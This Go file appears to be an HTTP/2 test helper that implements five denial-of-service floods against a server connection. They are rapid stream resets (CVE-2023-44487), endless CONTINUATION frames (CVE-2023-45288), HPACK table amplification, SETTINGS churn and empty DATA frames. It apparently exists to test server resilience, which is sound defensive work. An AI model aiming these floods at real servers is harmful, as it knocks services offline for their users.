package h2test

import (
	"bytes"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// The floods that every server has to bear. Each is given the header of a
// request, as names and values.

// Resets opens streams and resets each at once (CVE-2023-44487): they count no
// longer as open, but their handlers do.
func Resets(header ...string) func(*Conn) {
	return func(c *Conn) {
		c.Flood(time.Second, func(i int) error {
			stream := uint32(2*i + 1)
			if err := c.Open(stream, false, header...); err != nil {
				return err
			}
			return c.WriteRSTStream(stream, http2.ErrCodeCancel)
		})
	}
}

// Continuations sends a header that never ends (CVE-2023-45288).
func Continuations(header ...string) func(*Conn) {
	return func(c *Conn) {
		_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.Block(header...)})
		block := c.Block("x", strings.Repeat("y", 8<<10))
		c.Flood(5*time.Second, func(int) error { return c.WriteContinuation(1, false, block) })
	}
}

// SmallOnTheWay puts a field of 3 KB into the table and names it again and
// again, one byte each.
func SmallOnTheWay(header ...string) func(*Conn) {
	return func(c *Conn) {
		field := append(append([]string{}, header...), "x", strings.Repeat("y", 3<<10))
		_ = c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.Block(field...)})
		again := bytes.Repeat([]byte{0x80 | 62}, 16<<10)
		c.Flood(5*time.Second, func(int) error { return c.WriteContinuation(1, false, again) })
	}
}

// Settings changes the window of streams without end.
func Settings(c *Conn) {
	c.Flood(500*time.Millisecond, func(i int) error {
		return c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 1000)}) // #nosec G115 -- below 1000
	})
}

// EmptyData sends frames of no bytes as the body of a request.
func EmptyData(header ...string) func(*Conn) {
	return func(c *Conn) {
		_ = c.Open(1, false, header...)
		c.Flood(500*time.Millisecond, func(int) error { return c.WriteData(1, false, nil) })
	}
}
